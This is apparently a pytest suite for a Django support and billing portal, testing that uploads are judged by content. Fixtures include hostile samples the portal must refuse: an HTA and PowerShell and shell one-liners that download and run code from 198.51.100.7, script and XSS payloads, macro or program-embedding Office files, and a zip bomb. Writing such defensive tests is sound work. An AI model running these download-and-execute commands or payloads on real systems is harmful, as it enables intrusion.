"""What a file is comes from its bytes, never from its name (issue 13, item 4; review finding I2).

Every case uses a real file built here: Word and Excel documents made with zipfile with the parts
Office writes, a macro-enabled document, a ZIP of a program dressed as Word, an HTA, an SVG with a
script, a PNG renamed .exe, scripts named as text and text named as scripts. They go through the
real pages (opening a ticket, replying, billing requests, PO supports) and come back through the
real downloads, the staff admin's included."""

import io
import struct
import zipfile
import zlib

import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from billing.models import BillingAttachment, PurchaseOrderRequest
from contacts.models import PoAddress
from tests.conftest import staff_login
from tests.factories import PDF_BYTES, ServiceFactory, UserFactory, invoice_with_lines
from tests.factories import ticket_open_for as _open
from tickets.models import Attachment, Message

pytestmark = pytest.mark.django_db

_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
_WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200 + b"PE\x00\x00"
HTA = (
    b"<html><head><title>Speedtest results</title>\n"
    b'<hta:application id="speedtest" windowstate="minimize"/>\n'
    b'<script language="VBScript">\nSet shell = CreateObject("WScript.Shell")\n'
    b'shell.Run "powershell -w hidden -c iwr http://198.51.100.7/a.exe"\n</script>\n'
    b"</head><body>Speed: 940 Mbps</body></html>\n"
)
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">\n'
    b"<rect width='10' height='10'/><script>fetch('/users/').then(r => r.text())</script></svg>\n"
)
LOG = (
    "2026-12-07 03:12:44 ge-0/0/1 link down (LOS)\n"
    "2026-12-07 03:12:45 BGP 203.0.113.1 Idle -> Active\n"
    "2026-12-07 03:40:02 ge-0/0/1 link up, 1000 Mbps full duplex · señal −7.2 dBm\n"
).encode()


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _types(*overrides: tuple[str, str], defaults: str = "") -> bytes:
    parts = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
    return (
        f'{_XML}<Types xmlns="{_CT}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f"{defaults}{parts}</Types>"
    ).encode()


def _rels(target: str) -> bytes:
    return (
        f'{_XML}<Relationships xmlns="{_REL}"><Relationship Id="rId1" '
        f'Type="{_OFFICE_DOC}" Target="{target}"/></Relationships>'
    ).encode()


def docx(main_type: str = _WORD_MAIN, extra: dict[str, bytes] | None = None) -> bytes:
    """A Word document with the parts Word itself writes first."""
    body = (
        f'{_XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
        'main"><w:body><w:p><w:r><w:t>Speedtest: 940 Mbps down, 310 Mbps up</w:t></w:r></w:p>'
        "</w:body></w:document>"
    ).encode()
    return _zip(
        {
            "[Content_Types].xml": _types(("/word/document.xml", main_type)),
            "_rels/.rels": _rels("word/document.xml"),
            "word/document.xml": body,
            **(extra or {}),
        }
    )


def xlsx() -> bytes:
    workbook = (
        f'{_XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="Latency" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ).encode()
    sheet = (
        f'{_XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1"><v>42</v></c></row></sheetData></worksheet>'
    ).encode()
    sheet_rel = (
        f'{_XML}<Relationships xmlns="{_REL}"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        'Target="worksheets/sheet1.xml"/></Relationships>'
    ).encode()
    return _zip(
        {
            "[Content_Types].xml": _types(
                ("/xl/workbook.xml", _XLSX_MAIN), ("/xl/worksheets/sheet1.xml", _SHEET)
            ),
            "_rels/.rels": _rels("xl/workbook.xml"),
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": sheet_rel,
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def png() -> bytes:
    """A real 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\x0b\x5c\xab")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


@pytest.fixture
def service(customer):
    return ServiceFactory(customer=customer, service_id="AR-BUE-IPVPN-20001")


@pytest.fixture
def ticket(customer, admin_user, service):
    return _open(customer, admin_user, service=service)


def _reply(client, ticket, name: str, content: bytes):
    return client.post(
        reverse("tickets:reply", args=[ticket.number]),
        {"body": "See the file", "attachments": [SimpleUploadedFile(name, content)]},
    )


def _download(client, ticket, attachment):
    response = client.get(reverse("tickets:attachment", args=[ticket.number, attachment.reference]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    response.close()
    return response, body


# --- accepted: stored and served as what they are ----------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "stored_type", "served_as"),
    [
        ("Speedtest.docx", docx(), DOCX, "Speedtest.docx"),
        ("latencia.xlsx", xlsx(), XLSX, "latencia.xlsx"),
        ("screenshot.exe", png(), "image/png", "screenshot.png"),
        ("router.log", LOG, "text/plain", "router.txt"),
        ("informe", PDF_BYTES, "application/pdf", "informe.pdf"),
    ],
)
def test_a_file_is_stored_and_served_as_its_content_says(
    admin_client, ticket, name, content, stored_type, served_as
):
    assert _reply(admin_client, ticket, name, content).status_code == 302

    attachment = Attachment.objects.get()
    assert attachment.content_type == stored_type
    assert attachment.filename == served_as  # the page and the e-mails show this name too
    response, body = _download(admin_client, ticket, attachment)
    assert response["Content-Disposition"] == f'attachment; filename="{served_as}"'
    assert response["Content-Type"] == stored_type
    assert body == content


# --- refused: text that runs, and names that say so ----------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("Speedtest-results.hta", HTA, ".hta files can run on the computer"),
        ("Speedtest-results.txt", HTA, "contains HTA code"),
        ("diagram.svg", SVG, ".svg files can run"),
        ("diagram.txt", SVG, "contains SVG code"),
        ("page.log", b"<!DOCTYPE html><html><body>Hi</body></html>", "contains HTML code"),
        ("note.txt", b"<p>Hello</p>\n<img src=x onerror=alert(1)>\n", "contains HTML code"),
        ("check.js", b"console.log('ping 8.8.8.8');\n", ".js files can run"),
        (
            "check.txt",
            b'var s = new ActiveXObject("WScript.Shell");\n',
            "contains VBScript / JScript code",
        ),
        ("fix.vbs", b'MsgBox "hi"\n', ".vbs files can run"),
        (
            "fix.txt",
            b'Set o = CreateObject("Shell.Application")\n',
            "contains VBScript / JScript code",
        ),
        ("reset.ps1", b"Get-NetAdapter\n", ".ps1 files can run"),
        (
            "reset.txt",
            b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')\n",
            "contains PowerShell code",
        ),
        ("reset.bat", b"ipconfig /all\n", ".bat files can run"),
        (
            "reset.log",
            b"@echo off\r\nipconfig /release\r\nstart calc.exe\r\n",
            "contains batch code",
        ),
        (
            "deploy.txt",
            b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n",
            "contains shell script code",
        ),
    ],
)
def test_markup_and_scripts_are_refused_though_they_are_text(
    admin_client, ticket, name, content, says
):
    response = _reply(admin_client, ticket, name, content)

    assert response.status_code == 400
    page = response.content.decode()
    assert name in page and says in page, page
    assert not Attachment.objects.exists()
    assert not Message.objects.filter(body="See the file").exists()


def test_text_with_a_program_after_the_first_8_kb_is_refused(admin_client, ticket):
    """The whole file is read, not a sample of its head."""
    content = LOG * 200 + EXE  # about 28 KB of log, then a Windows program
    assert len(LOG * 200) > 8192

    response = _reply(admin_client, ticket, "router.log", content)

    assert response.status_code == 400
    assert "router.log is not a file type we accept." in response.content.decode()


def test_a_script_deep_in_a_long_log_is_found(admin_client, ticket):
    content = LOG * 30_000 + b"<script>document.location='//198.51.100.7'</script>\n" + LOG
    assert len(content) > 2 * 1024 * 1024  # several of the check's 1 MB chunks

    response = _reply(admin_client, ticket, "router.log", content)

    assert response.status_code == 400
    assert "contains HTML code" in response.content.decode()


# --- Office documents are opened and their members listed ---------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        # A macro-enabled document renamed .docx: its content types and its vbaProject.bin.
        (
            "informe.docx",
            docx(_DOCM_MAIN, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}),
            "contains macros or embedded programs (vbaproject.bin)",
        ),
        # Normal content types, but a macro project inside all the same.
        (
            "informe2.docx",
            docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}),
            "contains macros or embedded programs (vbaproject.bin)",
        ),
        ("planilla.xlsm", xlsx(), "contains macros or embedded programs (.xlsm)"),
        # An OLE package (an embedded program) in an otherwise plain document.
        (
            "informe3.docx",
            docx(extra={"word/embeddings/oleObject1.bin": EXE}),
            "contains macros or embedded programs (oleobject1.bin)",
        ),
    ],
)
def test_macros_and_embedded_programs_are_refused(admin_client, ticket, name, content, says):
    response = _reply(admin_client, ticket, name, content)

    assert response.status_code == 400
    assert says in response.content.decode()
    assert not Attachment.objects.exists()


def test_a_zip_of_a_program_dressed_as_word_is_refused(admin_client, ticket):
    """filetype calls any ZIP whose first member starts with word/ a Word document."""
    archive = _zip({"word/readme.txt": b"Open setup.exe", "setup.exe": EXE})
    import filetype

    assert filetype.guess(archive).extension == "docx"  # what the old check trusted

    response = _reply(admin_client, ticket, "drivers.docx", archive)

    assert response.status_code == 400
    assert "drivers.docx contains macros or embedded programs (setup.exe)" in (
        response.content.decode()
    )
    assert not Attachment.objects.exists()


def test_a_zip_that_is_no_office_document_is_refused(admin_client, ticket):
    archive = _zip({"word/document.xml": b"<w:document/>", "capture.pcap": b"\xd4\xc3\xb2\xa1"})

    response = _reply(admin_client, ticket, "capturas.docx", archive)

    assert response.status_code == 400
    assert "capturas.docx is a ZIP archive, not a Word or Excel document." in (
        response.content.decode()
    )


def test_an_archive_past_the_caps_is_refused_without_expanding_it(
    admin_client, ticket, monkeypatch
):
    from portal import uploads

    monkeypatch.setattr(uploads, "OFFICE_MAX_EXPANDED_MB", 1)
    bomb = docx(extra={"word/media/filler.xml": b"\x00" * (2 * 1024 * 1024)})
    assert len(bomb) < 20_000  # 2 MB of zeros compress to a few KB
    response = _reply(admin_client, ticket, "bomba.docx", bomb)
    assert response.status_code == 400
    assert "bomba.docx has more than 2000 parts or expands to more than 1 MB" in (
        response.content.decode()
    )

    monkeypatch.setattr(uploads, "OFFICE_MAX_EXPANDED_MB", 250)
    many = docx(extra={f"word/media/part{n}.xml": b"<x/>" for n in range(2001)})
    response = _reply(admin_client, ticket, "partes.docx", many)
    assert response.status_code == 400
    assert "partes.docx has more than 2000 parts" in response.content.decode()


def test_a_damaged_office_file_is_refused(admin_client, ticket):
    response = _reply(admin_client, ticket, "roto.docx", docx()[:200])
    assert response.status_code == 400
    assert "roto.docx is a damaged or password-protected file" in response.content.decode()


def test_opening_a_ticket_checks_its_files_the_same_way(admin_client, service):
    form = {
        "services": [service.service_id],
        "impact": "down",
        "problem_started_at": "2020-01-01T08:00",
        "subject": "Link down",
        "description": "No traffic",
        "site_contact_name": "Nico",
        "site_contact_phone": "+54 11 5555 0101",
        "access_hours": "24x7",
    }
    refused = admin_client.post(
        reverse("tickets:create"),
        {**form, "attachments": [SimpleUploadedFile("Speedtest-results.txt", HTA)]},
    )
    assert refused.status_code == 400
    assert "Speedtest-results.txt contains HTA code" in refused.content.decode()

    accepted = admin_client.post(
        reverse("tickets:create"), {**form, "attachments": [SimpleUploadedFile("a.exe", png())]}
    )
    assert accepted.status_code == 302
    assert Attachment.objects.get().filename == "a.png"


# --- downloads: staff admin, files stored before this check, billing -----------------------------


def test_staff_download_a_file_stored_before_the_check_as_text(client, ticket, admin_user):
    """Rows written by the old check keep their uploaded name; the download still takes its
    extension from the stored type."""
    staff = UserFactory(email="tsc2@provider.test", is_staff=True)
    staff.groups.add(Group.objects.get(name="TSC"))
    staff_login(client, staff)
    old = Attachment.objects.create(
        ticket=ticket,
        file=SimpleUploadedFile("x", b"Speed: 940 Mbps\n"),
        filename="Speedtest-results.hta",
        content_type="text/plain",
        size=16,
        uploaded_by=admin_user,
    )

    response = client.get(reverse("admin:tickets_ticket_attachment", args=[old.reference]))

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="Speedtest-results.txt"'
    assert response["Content-Type"] == "text/plain"
    response.close()


def test_billing_request_files_are_checked_and_named_the_same_way(admin_client, customer):
    invoice = invoice_with_lines(customer, number="FA-0001-00000077")
    form = {
        "kind": "question",
        "subject": "Lines",
        "description": "Why?",
        "invoice": invoice.number,
    }

    refused = admin_client.post(
        reverse("billing:request_create"),
        {**form, "attachments": [SimpleUploadedFile("detalle.txt", HTA)]},
    )
    assert refused.status_code == 400
    assert "detalle.txt contains HTA code" in refused.content.decode()

    accepted = admin_client.post(
        reverse("billing:request_create"),
        {**form, "attachments": [SimpleUploadedFile("detalle.exe", png())]},
    )
    assert accepted.status_code == 302
    stored = BillingAttachment.objects.get()
    assert (stored.filename, stored.content_type) == ("detalle.png", "image/png")
    url = reverse("billing:request_attachment", args=[stored.request.number, stored.reference])
    response = admin_client.get(url)
    assert response["Content-Disposition"] == 'attachment; filename="detalle.png"'
    response.close()


def test_a_po_support_is_named_for_its_content_in_the_portal_and_the_email(
    admin_client, customer, mailoutbox, django_capture_on_commit_callbacks
):
    PoAddress.objects.all().delete()
    PoAddress.objects.create(countries=[customer.country], email="po@provider.test")
    invoice = invoice_with_lines(customer, number="FA-0001-00000078")
    form = {"kind": "po", "reference": "4500012345", "invoices": [invoice.number]}

    refused = admin_client.post(
        reverse("billing:po_request_create"),
        {**form, "support": SimpleUploadedFile("orden.pdf", b"%PDF-1.4\n<html><script>x</script>")},
    )
    assert refused.status_code == 400
    assert not PurchaseOrderRequest.objects.exists()

    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(
            reverse("billing:po_request_create"),
            {**form, "support": SimpleUploadedFile("orden.exe", png())},
        )
    assert response.status_code == 302
    po = PurchaseOrderRequest.objects.get()
    assert (po.support_name, po.support_type) == ("orden.png", "image/png")
    download = admin_client.get(reverse("billing:po_request_support", args=[po.number]))
    assert download["Content-Disposition"] == 'attachment; filename="orden.png"'
    download.close()
    (sent,) = [m for m in mailoutbox if "po@provider.test" in m.to[0]]
    assert [name for name, _content, _type in sent.attachments] == ["orden.png"]


def test_an_invoice_pdf_must_be_a_whole_pdf(client, customer):
    from billing.importing import invoice_pdf_check
    from portal.errors import DomainError

    with pytest.raises(DomainError, match="its content is not a complete PDF document"):
        invoice_pdf_check(SimpleUploadedFile("fa.pdf", b"%PDF-1.4\n<html><script>x</script>\n"))
    invoice_pdf_check(SimpleUploadedFile("fa.pdf", PDF_BYTES))


def test_the_whole_file_check_stays_fast_on_text_made_to_slow_it_down():
    """The whole text is searched; text built to make the patterns backtrack (tag-like starts
    everywhere) must not tie up a worker. Measured: about 0.15 s for these 4 MB on 2 vCPUs."""
    import time

    from portal.uploads import content_type_sniff

    adversarial = SimpleUploadedFile("x.log", b"<a b<a b onxyz <a b " * (4 * 1024 * 1024 // 20))
    started = time.perf_counter()

    assert content_type_sniff(adversarial) == "text/plain"
    assert time.perf_counter() - started < 5
